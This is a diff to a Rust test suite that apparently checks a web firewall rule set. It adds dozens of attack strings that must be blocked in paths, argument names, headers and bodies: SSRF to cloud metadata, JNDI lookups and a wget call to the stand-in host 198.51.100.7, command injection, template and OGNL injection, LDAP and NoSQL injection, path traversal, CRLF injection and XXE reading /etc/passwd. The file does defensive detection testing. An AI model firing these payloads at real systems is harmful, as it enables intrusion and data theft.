@@ -65,9 +65,16 @@ fn judge(rules: &Ruleset, request: &Request<'_>) -> (bool, Vec<String>) {
     (outcome != Outcome::Continue, lines)
 }
 
+/// Percent-encoded as browsers do it (RFC 3986, section 2.3).
 fn encode(text: &str) -> String {
     text.bytes()
-        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
         .collect()
 }
 
@@ -122,6 +129,31 @@ fn attacks_of_every_family_are_denied_in_every_place() {
         "http://169.254.169.254/latest/meta-data/",
         "http://127.0.0.1:8500/v1/kv",
         "gopher://127.0.0.1:6379/_FLUSHALL",
+        "http://[::1]/admin",
+        "http://2130706433/",
+        "http://198.51.100.7/shell.txt?",
+        "php://filter/convert.base64-encode/resource=index.php",
+        "phar://uploads/a.jpg",
+        "phpinfo()",
+        "<%= system('id') %>",
+        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+        "class.module.classLoader.resources.context.parent.pipeline",
+        "__proto__[admin]=1",
+        "this.constructor.constructor('return process')()",
+        "{\"$ne\":null}",
+        "' || this.password.match(/.*/)//",
+        "*)(uid=*))(|(uid=*",
+        "admin)(&)",
+        "javascript:alert(document.cookie)",
+        "; ping -c 10 198.51.100.7",
+        "\nuname -a",
+        "a;${IFS}cat${IFS}/etc/hosts",
+        "; w''get http://198.51.100.7/",
+        "| whoami",
+        "....//....//etc/passwd",
+        "a@b.example\r\nBcc: c@d.example",
+        "a%0d%0aLocation: http://198.51.100.7/",
     ];
     let mut missed = Vec::new();
     for attack in attacks {
@@ -132,6 +164,87 @@ fn attacks_of_every_family_are_denied_in_every_place() {
         }
     }
     assert!(missed.is_empty(), "not denied:\n{}", missed.join("\n"));
+}
+
+/// The places that applications read less often: paths, the names of arguments, and headers of all kinds.
+fn elsewhere(attack: &str) -> Vec<(&'static str, Request<'static>)> {
+    vec![
+        ("path", Request::get(format!("/files/{}", encode(attack)))),
+        ("name", Request::get(format!("/?{}=1", encode(attack)))),
+        ("header", Request::get("/").header("X-Client-Info", attack)),
+        ("referer", Request::get("/").header("Referer", &format!("https://www.example.org/?q={}", encode(attack)))),
+        ("user agent", Request::get("/").header("User-Agent", attack)),
+    ]
+}
+
+#[test]
+fn attacks_are_denied_where_few_look_for_them() {
+    let rules = rules();
+    let attacks = [
+        "<script>alert(1)</script>",
+        "../../../../etc/passwd",
+        "; cat /etc/hosts",
+        "() { :; }; /bin/bash -c id",
+        "${jndi:ldap://198.51.100.7/a}",
+        "${${lower:j}ndi:rmi://198.51.100.7/a}",
+        "{{7*7}}",
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "require('child_process').exec('id')",
+        "php://filter/convert.base64-encode/resource=index.php",
+        "*)(objectClass=*",
+        "{\"$gt\":\"\"}",
+        "http://169.254.169.254/latest/meta-data/",
+        "java.lang.Runtime.getRuntime().exec('id')",
+    ];
+    let mut missed = Vec::new();
+    for attack in attacks {
+        for (place, request) in elsewhere(attack) {
+            // A path ends at its question mark, and dot segments never come so far.
+            if !judge(&rules, &request).0 {
+                missed.push(format!("{place}: {attack}"));
+            }
+        }
+    }
+    assert!(missed.is_empty(), "not denied:\n{}", missed.join("\n"));
+}
+
+#[test]
+fn what_programmers_write_passes() {
+    let rules = rules();
+    let texts = [
+        "Run `npm install` and then `npm start`; see README.md",
+        "The `id` field is missing in the answer",
+        "{{ user.name }} ordered {{ order.total | money }}",
+        "${name} is ${age} years old; #{order.id}: <%- title %>",
+        "a:hover { color: red; } .b > .c + .d ~ .e { margin: 0 auto !important }",
+        "SELECT is a keyword; so are INSERT, UPDATE and DELETE",
+        "C:\\Users\\Anna\\Documents\\R&D\\report (final).docx",
+        "\\\\server\\R&D\\team",
+        "Which operating system(s)? I run two systems (v2);",
+        "JavaScript: The Good Parts (O'Reilly, 2008)",
+        "name|id|price",
+        "a;\"\";b;\"\"",
+        "Name & ID",
+        "10.0.0.1/24, 192.168.1.0/16",
+        "We can't sleep at night; update us at once, or else drop by.",
+        "[link](https://www.example.org/a_(b)) and ![image](./images/../logo.png)",
+        "f(x)(y), (a)(b), :-) (-:",
+        "The cat; dog food & cat litter | bird seed",
+        "rock 'n' roll & r'n'b",
+        "Products?$filter=Price gt 10 and Name eq 'Chair'",
+        "Subject: your order\r\nHello,\r\nto: be delivered",
+        "order by phone",
+    ];
+    let mut wrong = Vec::new();
+    for text in texts {
+        for (place, request) in everywhere(text) {
+            let (denied, lines) = judge(&rules, &request);
+            if denied {
+                wrong.push(format!("{place}: {text}\n  {}", lines.join("\n  ")));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "denied:\n{}", wrong.join("\n"));
 }
 
 #[test]
@@ -154,6 +267,14 @@ fn attacks_that_have_one_place_are_denied_there() {
         ("serialised", Request::get("/?o=rO0ABXNyABdqYXZhLnV0aWw")),
         ("base64", Request::get("/?v=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
         ("base64 sql", Request::get("/?v=MScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnM=")),
+        ("base64 command", Request::get("/?v=OyBjYXQgL2V0Yy9wYXNzd2Q=")),
+        ("base64 sql alone", Request::get("/?v=MScgb3IgJzEnPScx")),
+        ("base64 template", Request::get("/?v=e3snJy5fX2NsYXNzX18uX19tcm9fX1sxXX19")),
+        ("base64 header", Request::get("/").header("X-Token", "JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0=")),
+        ("attribute", Request::post("text/xml", "<r a=\"1' UNION SELECT password FROM users--\"/>")),
+        ("graphql", Request::post("application/json", "{\"query\":\"{ user(id: \\\"1' OR '1'='1\\\") { id } }\"}")),
+        ("nested json", Request::post("application/json", "{\"a\":[{\"b\":{\"c\":[\"x\",\"../../../etc/passwd\"]}}]}")),
+        ("nosql cookie", Request::get("/").header("Cookie", "user=%7B%22%24ne%22%3Anull%7D")),
         ("entity", Request::post("text/xml", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
         ("broken json", Request::post("application/json", "{\"a\":")),
         ("argument name", Request::get(format!("/?{}=1", encode("<script>alert(1)</script>")))),
